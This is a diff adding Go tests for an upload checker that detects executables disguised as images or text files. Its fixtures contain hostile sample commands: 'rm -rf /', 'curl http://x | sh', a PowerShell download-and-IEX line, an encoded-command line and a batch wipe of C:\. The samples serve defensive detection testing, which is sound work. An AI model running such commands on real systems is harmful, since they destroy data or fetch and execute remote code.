@@ -0,0 +1,141 @@
+package filechecker
+
+import (
+	"archive/zip"
+	"bytes"
+	"testing"
+)
+
+func testPE(characteristics int) []byte {
+	data := make([]byte, 0x40+24+64)
+	copy(data, "MZ")
+	copy(data[0x3C:], le32(0x40))
+	copy(data[0x40:], "PE\x00\x00")
+	copy(data[0x40+22:], le16(characteristics))
+	return data
+}
+
+func testZip(t *testing.T, names ...string) []byte {
+	var (
+		buf    bytes.Buffer
+		writer = zip.NewWriter(&buf)
+	)
+
+	for _, name := range names {
+		w, err := writer.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, _ = w.Write([]byte("content of " + name))
+	}
+	if err := writer.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func testCFB(clsid []byte) []byte {
+	data := make([]byte, 1024)
+	copy(data, cfbSignature)
+	copy(data[0x1E:], le16(9)) // 512-byte sectors
+	copy(data[0x30:], le32(0)) // directory in sector 0, right after the header
+	copy(data[512+0x50:], clsid)
+	return data
+}
+
+//nolint:funlen
+func TestDetectExecutable(t *testing.T) {
+	tests := []struct {
+		name     string
+		filename string
+		data     []byte
+		want     string
+	}{
+		{name: "PE", filename: "setup.exe", data: testPE(0x0102), want: ExecPE},
+		{name: "DLL", filename: "lib.dll", data: testPE(0x2102), want: ExecDLL},
+		{name: "DOS", filename: "old.com", data: []byte("MZ\x90\x00"), want: ExecPE},
+		{name: "ELF", filename: "a.out", data: []byte("\x7fELF\x02\x01\x01"), want: ExecELF},
+		{name: "Mach-O", filename: "app", data: []byte{0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1}, want: ExecMachO},
+		{name: "Mach-O-fat", filename: "app", data: []byte{0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2}, want: ExecMachO},
+		{name: "Java-class", filename: "Main.class", data: []byte{0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52}, want: ExecJavaClass},
+		{name: "LNK", filename: "photo.jpg.lnk", data: append(append([]byte{}, lnkHeader...), make([]byte, 56)...), want: ExecLNK},
+		{name: "MSI", filename: "setup.msi", data: testCFB(append([]byte{0x84}, msiCLSID...)), want: ExecMSI},
+		{name: "XLS", filename: "sheet.xls", data: testCFB(make([]byte, 16)), want: ""},
+		{name: "JAR", filename: "app.jar", data: testZip(t, "META-INF/MANIFEST.MF", "com/example/Main.class"), want: ExecJAR},
+		{name: "APK", filename: "app.apk", data: testZip(t, "AndroidManifest.xml", "classes.dex"), want: ExecAPK},
+		{name: "DOCX", filename: "letter.docx", data: testZip(t, "[Content_Types].xml", "word/document.xml"), want: ""},
+		{name: "shebang", filename: "photo.jpg", data: []byte("#!/bin/sh\nrm -rf /\n"), want: ExecScript},
+		{name: "shebang-BOM", filename: "run", data: []byte("\xEF\xBB\xBF  #!/usr/bin/env python3\n"), want: ExecScript},
+		{name: "PowerShell", filename: "report.txt", data: []byte("$c = New-Object System.Net.WebClient\nIEX($c.DownloadString('http://x'))"), want: ExecPowerShell},
+		{name: "PowerShell-encoded", filename: "notes.txt", data: []byte("powershell -NoP -EncodedCommand SQBFAFgA"), want: ExecPowerShell},
+		{name: "PowerShell-prose", filename: "notes.txt", data: []byte("Use Write-Host to print, Get-ChildItem to list files, Start-Process to run\na program and Add-Type to load a .NET type.\n"), want: ""},
+		{name: "PowerShell-declared", filename: "tool.ps1", data: []byte("$x = 1\n"), want: ExecPowerShell},
+		{name: "batch", filename: "notes.txt", data: []byte("@ECHO OFF\r\ndel /q C:\\*\r\n"), want: ExecBatch},
+		{name: "HTA", filename: "invoice.html", data: []byte("<html><head><HTA:APPLICATION ID=\"x\"/></head></html>"), want: ExecHTA},
+		{name: "text", filename: "notes.txt", data: []byte("nothing to see here\n"), want: ""},
+		{name: "PNG", filename: "photo.png", data: testPNG(t), want: ""},
+		{name: "PDF-with-script-words", filename: "doc.pdf", data: []byte("%PDF-1.6\nstart-process\n"), want: ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := detectExecutable(bytes.NewReader(tt.data), int64(len(tt.data)), tt.filename); got != tt.want {
+				t.Errorf("detectExecutable() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFileChecker_Check_Executable(t *testing.T) {
+	tests := []struct {
+		name       string
+		filename   string
+		data       []byte
+		allow      []string
+		authorised bool
+		reason     Reason
+		executable string
+	}{
+		{
+			name:       "ELF-extension-authorised",
+			filename:   "tool",
+			data:       append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...),
+			reason:     ReasonExecutable,
+			executable: ExecELF,
+		},
+		{
+			name:       "ELF-opted-in",
+			filename:   "tool",
+			data:       append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...),
+			allow:      []string{ExecELF},
+			authorised: true,
+			executable: ExecELF,
+		},
+		{
+			name:       "script-as-JPG",
+			filename:   "photo.jpg",
+			data:       []byte("#!/bin/sh\ncurl http://x | sh\n"),
+			allow:      []string{ExecELF},
+			reason:     ReasonExecutable,
+			executable: ExecScript,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mpFileHeader, err := getMultipartFileHeaderFromBytes(tt.filename, tt.data)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			fc := GetFileChecker(mpFileHeader)
+			fc.SetExtensions([]string{ExtArchiveELF})
+			fc.SetPolicy(Policy{AllowExecutables: tt.allow})
+
+			got := fc.Check()
+			if got.Authorised != tt.authorised || got.Reason != tt.reason || got.Executable != tt.executable {
+				t.Errorf("Check() = %v (%s, %q), want %v (%s, %q)", got.Authorised, got.Reason, got.Executable, tt.authorised, tt.reason, tt.executable)
+			}
+		})
+	}
+}